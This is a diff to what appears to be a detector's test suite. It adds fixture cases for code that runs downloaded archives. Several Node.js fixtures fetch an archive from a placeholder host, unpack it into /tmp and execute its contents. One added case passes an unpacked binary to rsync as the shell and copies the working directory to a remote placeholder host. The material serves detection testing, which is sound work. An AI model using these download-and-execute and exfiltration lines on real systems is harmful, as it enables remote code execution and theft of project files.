@@ -166,6 +166,13 @@ examine(runsDownloadedCode, {
       weight: 'strong',
     },
     {
+      when: 'a tool that copies is told to start what was unpacked',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execFileSync('rsync', ['-az', '-e', '/tmp/y/inert', '.', 'a.invalid:/']) })();`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a saved archive is unpacked by a command',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz', { cwd: '/tmp/y' }); require('/tmp/y/index.js') })();`,
@@ -608,6 +615,12 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       when: 'an archive is fetched and unpacked, and something else is started',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execSync('chmod 755 /tmp/y/run'); cp.execSync('git status'); fs.readFileSync('/tmp/y/data.json') })();`,
+      },
+    },
+    {
+      when: 'an archive is fetched and unpacked, and a picture in it goes to a tool that reads pictures',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execFileSync('pngquant', ['--force', '/tmp/y/inert.png']) })();`,
       },
     },
     {
